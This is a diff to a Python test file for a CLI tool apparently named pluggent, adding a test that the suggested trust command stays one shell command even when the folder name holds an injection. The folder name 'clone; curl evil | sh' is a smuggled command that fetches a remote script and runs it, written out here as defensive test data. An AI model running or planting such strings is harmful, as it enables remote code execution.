@@ -100,6 +100,19 @@ def test_what_an_untrusted_file_cannot_set_is_named_with_how_to_trust_it(cli):
     assert cli("plugins", "--quiet").err == ""
 
 
+def test_the_command_that_trusts_a_file_is_one_command_whatever_its_folder_is_called(cli):
+    folder = cli.work / "clone; curl evil | sh"
+    folder.mkdir()
+    file = folder / "pluggent.toml"
+    file.write_text('model = "evil/x"\n')
+
+    note = cli("config", script=f'cd "{folder}"; "$@"').err
+    path = cli("config", "path", "--color", "never", script=f'cd "{folder}"; "$@"').out
+
+    assert note.endswith(f"accept it: pluggent trust '{file}'\n")
+    assert f"read it, then pluggent trust '{file}'" in " ".join(path.split())
+
+
 def test_the_document_names_the_kind_of_every_origin(cli):
     write(cli, '[selection]\nblock = ["acme-tool"]\n')
 
